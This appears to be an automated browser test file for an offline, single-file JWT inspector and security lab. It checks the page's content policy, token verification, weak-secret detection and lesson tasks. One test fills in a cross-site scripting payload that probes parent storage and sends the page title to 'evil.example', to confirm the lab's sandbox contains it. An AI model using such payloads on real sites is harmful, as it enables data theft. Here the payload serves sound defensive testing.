/** The page as one file, opened from a disk with the network refused. Not: each browser (CLAIMCHECK_PAGE, test/browsers). */
import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { readFileSync, statSync } from 'node:fs';
import { resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium as playwright, type Browser, type Page } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { headlessShell } from '../../scripts/chromium.js';
import { compact } from '../jose/tokens';
import { segment } from './compact';

const FILE = resolve('dist-single/claimcheck.html');

let browser: Browser;
let page: Page;
/** Requests for anything but the file itself, and what the page complained of. */
const noted: string[] = [];

beforeAll(async () => {
  execFileSync('node', ['scripts/single.js'], { env: { ...process.env, NODE_ENV: 'production' } });
  const options = headlessShell();
  browser = await playwright.launch({
    ...options,
    args: [...options.args, '--host-resolver-rules=MAP * ~NOTFOUND', '--proxy-server=127.0.0.1:9'],
  });
});
beforeEach(async () => {
  noted.length = 0;
  page = await browser.newPage({ viewport: { width: 1280, height: 720 } });
  page.setDefaultTimeout(60_000);
  page.on('pageerror', (error) => noted.push(String(error)));
  page.on('console', (message) => {
    if (message.type() === 'error') noted.push(message.text());
  });
  page.on('request', (request) => {
    const url = request.url();
    if (!/^(?:data|blob):/u.test(url) && url.split('#')[0] !== pathToFileURL(FILE).href) noted.push(url);
  });
});
afterEach(() => page.close());
afterAll(() => browser.close());

const open = (place: string) => page.goto(`${pathToFileURL(FILE).href}#${place}`);

test('it says what it is, and has its licences within', async () => {
  await open('/browser');
  for (const missing of ['service-worker', 'web-server'])
    await page.locator(`[data-ability="${missing}"][data-here=false]`).waitFor();
  await page.locator('[data-ability="web-crypto"][data-here=true]').waitFor();
  const [licences] = await Promise.all([
    page.waitForEvent('popup'),
    page.getByRole('link', { name: 'Licenses' }).click(),
  ]);
  await licences.locator('body').filter({ hasText: '## msw - ' }).waitFor();
  await licences.close();
  const [, commit] = /\((\w+\+?)\)/u.exec((await page.locator('[data-build]').textContent()) ?? '') ?? [];
  expect(commit).toBe(await page.locator('[data-build]').getAttribute('data-build'));
  expect(noted).toEqual([]);
});

test('its policy lets nothing out and no other script in', async () => {
  await open('/inspect');
  await page.locator('#paste').waitFor();
  const tried = await page
    .evaluate(async () => {
      const element = document.createElement('script');
      Object.assign(element, { src: 'data:text/javascript,window.got=1' } as object);
      return element;
    })
    .catch((error: unknown) => String(error));
  expect(tried).toContain('Only this page’s own workers may load');
  const reached = await page.evaluate(() =>
    fetch('http://127.0.0.1:9/').then(
      () => 'sent',
      (error: unknown) => String(error),
    ),
  );
  expect(reached).toContain('TypeError');
  expect(
    noted.filter((text) => text.includes('connect-src') || text.includes("default-src 'none'")),
  ).not.toEqual([]);
});

test('a token is pasted and verified, and its workers read it', async () => {
  await open('/inspect');
  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const signed = compact({ alg: 'RS256', typ: 'JWT' }, { sub: 'ada', exp: 4e9 }, privateKey);
  await page.locator('#paste').fill(signed);
  await page.locator('#key').fill(publicKey.export({ type: 'spki', format: 'pem' }).toString());
  await page.locator('[data-verdict=valid]').waitFor();
  const [head = '', , signature = ''] = signed.split('.');
  await page.locator('#paste').fill(`${head}.${segment({ sub: 'eve', exp: 4e9 })}.${signature}`);
  await page.locator('[data-verdict=invalid]').waitFor();
  // One worker looks for a published secret, another reads what is large.
  const known = compact({ alg: 'HS256', typ: 'JWT' }, { sub: 'ada' }, Buffer.from('secret'));
  await page.locator('#paste').fill(known);
  await page.locator('[data-rule=hmac-known-secret]').waitFor();
  await page.locator('#paste').fill(`${'nothing to see here\n'.repeat(60_000)}${known}`);
  await page.getByText('Claimcheck read all of it.').waitFor();
  await page.locator('[data-rule=hmac-known-secret]').waitFor();
  expect(noted).toEqual([]);
});

test('a story plays, a lesson’s task is solved, and the lab’s requests stay in the page', async () => {
  await open('/lab?record');
  const next = page.getByRole('button', { name: 'Next step' });
  await page.locator('[data-mode=hybrid] [data-exchange]').first().waitFor();
  await page.locator('[data-story]').nth(1).click();
  await expect
    .poll(async () => {
      if (await next.isEnabled()) await next.click();
      return (await next.isDisabled()) && (await page.locator('[data-travelling]').count()) === 0;
    })
    .toBe(true);
  expect(await page.locator('article[data-mode] [data-outcome]').count()).toBeGreaterThan(0);
  await open('/learn/kick-them-out');
  await page.locator('[data-mode]').first().waitFor();
  await page.keyboard.press('End');
  await page.locator('[data-task=unsolved]').waitFor();
  await page.getByRole('button', { name: 'Show a solution' }).click();
  await page.locator('[data-task=solved]').waitFor();
  expect(noted).toEqual([]);
});

test('a payload runs in its frame, and is as caged as in the page of many files', async () => {
  await open('/lab/payload');
  await page
    .getByLabel('Review, as HTML')
    .fill(
      '<script>for (const tried of ["parent.document", "localStorage.length", "top.localStorage"]) try { console.log(tried + ": got " + Function("return " + tried)()); } catch (error) { console.log(tried + ": " + error.name); } fetch("https://evil.example/?" + document.title)</script>',
    );
  await page.getByRole('button', { name: 'Open the victim’s page' }).click();
  await page.frameLocator('iframe').frameLocator('iframe').locator('#orders li').first().waitFor();
  await page.locator('[data-to=attacker]').waitFor();
  // The same file in a frame without a sandbox runs no payload.
  const heard = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    let messages = 0;
    window.addEventListener('message', () => {
      messages += 1;
    });
    frame.src = '#victim';
    document.body.append(frame);
    await new Promise((resolve) => {
      setTimeout(resolve, 3000);
    });
    return messages;
  });
  expect(heard).toBe(0);
});

test('it carries its version, and the same commit gives the same bytes', () => {
  const before = readFileSync(FILE, 'utf8');
  execFileSync('node', ['scripts/single.js'], { env: { ...process.env, NODE_ENV: 'production' } });
  expect(readFileSync(FILE, 'utf8') === before).toBe(true);
  expect(statSync(FILE).size).toBeLessThan(8e6);
});
